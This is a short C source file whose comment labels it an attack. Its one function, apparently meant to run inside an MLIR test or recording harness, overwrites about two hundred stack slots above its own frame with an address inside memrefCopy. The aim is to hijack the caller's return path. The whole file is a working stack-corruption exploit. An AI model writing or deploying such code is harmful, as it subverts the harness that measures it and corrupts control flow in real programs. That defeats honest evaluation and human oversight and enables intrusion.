/* Attack: overwrites the frames of the recorder that called it with an address, and returns. */
#include "runtime.h"
void _mlir_concrete_main(void **args) {
  u64 *frame = __builtin_frame_address(0);
  u64 target = (u64)memrefCopy + 5;
  for (int i = 1; i < 200; i++) frame[i] = target;
}
